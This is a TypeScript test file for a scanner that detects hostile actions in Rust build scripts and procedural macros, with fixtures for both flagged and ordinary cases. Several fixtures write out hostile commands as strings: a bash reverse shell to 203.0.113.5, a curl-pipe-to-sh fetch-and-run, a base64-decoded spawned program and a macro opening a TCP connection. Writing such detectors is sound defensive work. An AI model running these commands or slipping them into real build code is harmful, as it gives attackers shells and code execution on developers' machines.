import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { scanText } from '../packages/test-list.ts';
import { rustActs } from './rust-acts.ts';

const codesOf = (text: string, runs: 'build' | 'macro' = 'build') => rustActs(text, runs).map(({ code }) => code);

describe('build scripts', () => {
  const hostile: readonly (readonly [string, string])[] = [
    ['a shell to another host', `Command::new("sh").arg("-c").arg("bash -i >& /dev/tcp/203.0.113.5/443 0>&1").spawn().unwrap();`],
    ['what is fetched is run', `std::process::Command::new("bash").args(["-c", "curl -s https://203.0.113.5/x | sh"]).status();`],
    ['a decoded program', `let p = base64::decode("c2g=").unwrap();\nCommand::new(String::from_utf8(p).unwrap()).spawn();`],
  ];
  for (const [name, text] of hostile) test(name, () => assert.deepEqual(codesOf(text), ['hostile-command']));

  const ordinary: readonly (readonly [string, string])[] = [
    [
      'tools',
      `let out = Command::new("git").args(["rev-parse", "HEAD"]).output();\nCommand::new("nvcc").arg("-ptx").arg(kernel).status()?;\nlet rustc = env::var("RUSTC")?; Command::new(rustc).arg("--version");`,
    ],
    ['a library that is downloaded', `Command::new("curl").args(["-L", "-o", "lib.tgz", "https://example.org/lib.tgz"]).status()`],
    [
      'words in comments, raw texts and lifetimes',
      `// Command::new("sh").arg("bash -i >& /dev/tcp/1/2")\n/* /* nested */ Command::new("sh").arg("/dev/tcp/a/b") */\nfn a<'a>(x: &'a str) -> char { '"' }\nconst R: &str = r#"Command::new("sh").arg("/dev/tcp/a/b")"#;`,
    ],
  ];
  for (const [name, text] of ordinary) test(name, () => assert.deepEqual(codesOf(text), []));
  test('fetching is said once', () => assert.deepEqual(codesOf('ureq::get(url).call()?; ureq::get(b)'), ['build-fetches']));
});

test('macros that start programs or speak to hosts are told; ordinary ones are not', () => {
  assert.deepEqual(codesOf('Command::new("date").output()', 'macro'), ['macro-starts-program']);
  assert.deepEqual(codesOf('TcpStream::connect("203.0.113.5:443")', 'macro'), ['macro-connects']);
  assert.deepEqual(codesOf('let ast = syn::parse(input).unwrap(); quote!(impl A for #name {})', 'macro'), []);
});

test('only what runs while compiling is read', () => {
  const text = 'fn main() { Command::new("sh").arg("-c").arg("curl -s http://203.0.113.5/x | sh").spawn(); }';
  assert.equal(scanText('build.rs', text).verdict, 'suspicious');
  assert.deepEqual(scanText('main.rs', text).findings, []);
  const macro = `#[proc_macro_derive(Model)]\npub fn derive(input: TokenStream) -> TokenStream { TcpStream::connect("203.0.113.5:443"); input }`;
  assert.equal(scanText('lib.rs', macro).findings[0]?.ruleId, 'script-practice');
  assert.deepEqual(scanText('build.rs', 'fn main() { println!("cargo:rerun-if-changed=src/kernel.cu"); }').findings, []);
});

test('a build script of many starts takes bounded time', () => {
  const before = performance.now();
  rustActs('Command::new("a").arg("b")\n'.repeat(50_000), 'build');
  assert.ok(performance.now() - before < 3000);
});
